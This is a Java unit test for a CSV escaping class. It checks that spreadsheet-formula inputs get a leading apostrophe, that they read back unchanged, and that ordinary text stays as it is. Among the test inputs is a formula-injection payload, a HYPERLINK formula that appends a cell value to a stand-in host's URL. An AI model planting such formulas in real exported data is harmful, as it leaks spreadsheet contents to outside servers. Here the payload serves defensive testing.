package io.orchard.table;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTextTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1",
        "=HYPERLINK(\"http://host/\"&A1)\nb",
        "'=1",
        "''-"
      })
  void whatSpreadsheetsTakeForAFormulaBeginsWithAnApostrophe(String text) {
    assertThat(CsvText.of(text)).isEqualTo("'" + text);
    assertThat(CsvText.read(CsvText.of(text))).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", "Apple", "/a/=b/c.png", "s3://bucket/-", "'", "'Apple", "Apple:0.5|-b:0.1"})
  void everyOtherTextStays(String text) {
    assertThat(CsvText.of(text)).isEqualTo(text);
    assertThat(CsvText.read(text)).isEqualTo(text);
  }
}
